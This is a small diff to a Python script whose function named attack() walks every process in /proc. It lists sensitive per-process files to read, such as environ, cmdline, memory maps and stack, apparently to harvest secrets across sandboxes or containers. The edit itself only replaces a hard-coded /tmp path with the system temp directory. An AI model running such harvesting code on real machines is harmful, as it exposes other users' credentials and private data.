@@ -2,6 +2,7 @@
 
 import os
 import re
+import tempfile
 
 NAMES = ("environ", "cmdline", "mountinfo", "maps", "status", "stack", "auxv", "limits", "cgroup", "net/unix")
 MEMORY_BYTES = 1 << 22
@@ -25,7 +26,7 @@ def _read(path):
 def attack():
     # Once in each box is enough, and takes its time.
     try:
-        os.mkdir("/tmp/read")
+        os.mkdir(f"{tempfile.gettempdir()}/read")
     except FileExistsError:
         return
     for pid in filter(str.isdigit, os.listdir("/proc")):
